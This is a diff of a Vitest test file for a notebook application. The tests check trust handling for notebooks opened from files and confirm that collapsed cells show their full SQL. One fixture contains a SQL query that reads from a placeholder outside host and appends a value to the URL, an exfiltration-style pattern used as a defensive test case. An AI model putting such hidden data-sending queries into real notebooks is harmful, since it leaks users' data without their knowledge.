@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { distrust, emptyNotebook, parseNotebook, serializeNotebook, trust, type Notebook } from '$lib/notebook';
 import { notebookActions } from '$lib/cells/actions';
-import { checkCell } from '$lib/cells/definitions';
+import { cellSchemas } from '$lib/cells/definitions';
 
 function quarterly(): Notebook {
 	const doc = emptyNotebook('Quarterly review', 'nb_q');
@@ -25,14 +25,14 @@ describe('trust of notebooks opened from files', () => {
 	it('serializeNotebook(untrusted doc) never carries the flag into the file', () => {
 		const text = serializeNotebook(distrust(quarterly()));
 		expect(text).not.toContain('untrusted');
-		expect(parseNotebook(text, checkCell).untrusted).toBeUndefined();
+		expect(parseNotebook(text, cellSchemas).doc.untrusted).toBeUndefined();
 	});
 
 	it('notebookActions(cells) lists every cell that runs, collapsed ones with their full SQL', () => {
 		const actions = notebookActions(quarterly().cells);
 		expect(actions.map((a) => a.cellId)).toEqual(['c2', 'c3', 'c4']);
 		expect(actions[0].summary).toBe('loads the file "clients.csv" as table clients');
-		expect(actions[1]).toMatchObject({ name: 'Totals', collapsed: true, summary: 'runs SQL, saved as totals:', sql: "SELECT * FROM read_csv('http://x/?d=' || 1)" });
+		expect(actions[1]).toMatchObject({ name: 'Totals', collapsed: true, summary: 'runs SQL, saved as totals:', code: "SELECT * FROM read_csv('http://x/?d=' || 1)" });
 		expect(actions[2]).toMatchObject({ name: 'Profile', summary: 'reads clients' });
 	});
 });
